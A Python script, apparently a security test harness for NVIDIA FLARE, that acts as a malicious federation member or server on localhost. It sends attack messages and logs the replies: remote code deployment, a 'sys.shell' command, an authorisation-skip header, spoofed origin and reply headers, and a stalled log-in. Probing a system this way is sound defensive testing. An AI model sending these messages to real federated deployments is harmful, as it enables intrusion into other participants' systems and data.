"""Plain FLARE in hostile hands: a member that attacks others through the server, or a server that attacks a site.

`mallory.py member|server <settings as JSON>`: sends everything it can think of, prints what came back, one JSON line each.
"""

import json
import os
import sys
import time

from nvflare.fuel.f3.cellnet.core_cell import CoreCell
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.fuel.f3.drivers.driver_params import DriverParams
from nvflare.fuel.f3.message import Message
from nvflare.private.admin_defs import Message as Command

role, given = sys.argv[1], json.loads(sys.argv[2])
ends = {
    "member": (DriverParams.CLIENT_CERT, DriverParams.CLIENT_KEY),
    "server": (DriverParams.SERVER_CERT, DriverParams.SERVER_KEY),
}
credentials = {
    DriverParams.CA_CERT.value: given["authority"],
    ends[role][0].value: given["certificate"],
    ends[role][1].value: given["key"],
    DriverParams.CONNECTION_SECURITY.value: "mtls",
}
name = "server" if role == "server" else given["name"]
cell = CoreCell(
    name, f"tcp://127.0.0.1:{given['port']}", True, credentials, auth_identity_map={"server": "server.test"}
)


def command(topic, body=""):
    message = Command(topic=topic, body=body)
    message.set_header("require_authz", "false")
    return message


def deploy():
    message = command("train.deploy", b"PK code")
    for key, value in {
        "job_id": "11111111-1111-1111-1111-111111111111",
        "job_meta": {"a": 1},
        "app_name": "app",
    }.items():
        message.set_header(key, value)
    return message


ATTACKS = {
    "deploy": ("admin", "train.deploy", deploy),
    "deploy to the server": ("server_main", "train.deploy", deploy),
    "shell": ("admin", "sys.shell", lambda: command("sys.shell", "touch /tmp/pwned-by-mallory")),
    "info": ("admin", "sys.info", lambda: command("sys.info")),
    "shutdown": ("admin", "train.shutdown", lambda: command("train.shutdown")),
    "admin command": ("admin", "command", lambda: {"command": "list_jobs"}),
    "network agent": ("_net_manager", "process_info", lambda: None),
    "peers": ("_net_manager", "peers", lambda: None),
    "stop": ("_net_manager", "stop", lambda: None),
    "auxiliary": ("aux_communication", "fed.event", lambda: {"x": 1}),
    "task": ("server_command", "get_task", lambda: {"x": 1}),
    "bulk": ("cellnet.channel", "bulk", lambda: [{"target": "x", "channel": "dpfda", "topic": "ask", "message": {}}]),
    "stream": ("sm__STREAM", "sm__DATA", lambda: b"x"),
    "certificates": ("credential_manager", "key_exchange", lambda: {"x": 1}),
    "objects as a question": ("dpfda", "ask", lambda: {"x": [1, 2]}),
    "objects as an answer": ("dpfda", "answer", lambda: {"x": [1, 2]}),
    "objects as a hello": ("dpfda", "hello", lambda: {"x": [1, 2]}),
    "objects as a registration": ("task", "register", lambda: {"x": [1, 2]}),
    "objects as a heart-beat": ("task", "heart_beat", lambda: {"x": [1, 2]}),
    "no such topic": ("dpfda", "give_me_everything", lambda: b"x"),
    "a question": ("dpfda", "ask", lambda: b"\0" * 16 + b"\x3f\xf0" + b"\0" * 6 + b"not signed"),
}


def attack(target):
    for attack_name, (channel, topic, payload) in ATTACKS.items():
        reply = cell.send_request(channel, topic, target, Message({}, payload()), timeout=0.2, optional=True)
        code = reply.get_header(MessageHeaderKey.RETURN_CODE)
        print(
            json.dumps({"target": target, "attack": attack_name, "code": code, "body": repr(reply.payload)[:200]}),
            flush=True,
        )


def forge(target):
    """Messages that claim another origin, ask for ad-hoc connections, or for FLARE's own encryption."""
    forged = [
        {MessageHeaderKey.ORIGIN: "server"}, {MessageHeaderKey.ORIGIN: "beta"}, {MessageHeaderKey.SECURE: True},
        {MessageHeaderKey.CONN_URL: "tcp://127.0.0.1:1", MessageHeaderKey.FROM_CELL: "elsewhere"},
        {MessageHeaderKey.MSG_TYPE: "reply", MessageHeaderKey.REQ_ID: "x"},
        {MessageHeaderKey.MSG_TYPE: "return", MessageHeaderKey.ORIGINAL_HEADERS: {}},
        {MessageHeaderKey.TOPIC: ["x"]}, {MessageHeaderKey.CHANNEL: "x" * 5000},
    ]  # fmt: skip
    endpoint = cell.agents["server" if role == "member" else target].endpoint
    for change in forged:
        message = Message({}, b"x" * 40)
        message.headers.update({
            MessageHeaderKey.CHANNEL: "dpfda", MessageHeaderKey.TOPIC: "ask" if role == "server" else "answer",
            MessageHeaderKey.ORIGIN: name, MessageHeaderKey.DESTINATION: target, MessageHeaderKey.MSG_TYPE: "req",
            MessageHeaderKey.PAYLOAD_ENCODING: "bytes",
        })  # fmt: skip
        message.headers.update(change)
        cell.communicator.send(endpoint, CoreCell.APP_ID, message)
    print(json.dumps({"forged": len(forged)}), flush=True)


cell.register_request_cb(
    channel="task", topic="challenge", cb=lambda message: None
)  # keep a site waiting at its log-in
cell.start()
deadline = time.monotonic() + 30
wanted = ["server"] if role == "member" else [given["victim"]]
while not all(each in cell.agents for each in wanted) and time.monotonic() < deadline:
    time.sleep(0.05)
print(json.dumps({"connected": sorted(cell.agents)}), flush=True)
try:
    for each in given["targets"]:
        forge(each)
        attack(each)
    time.sleep(0.5)
    print(json.dumps({"done": True}), flush=True)
finally:
    os._exit(0)
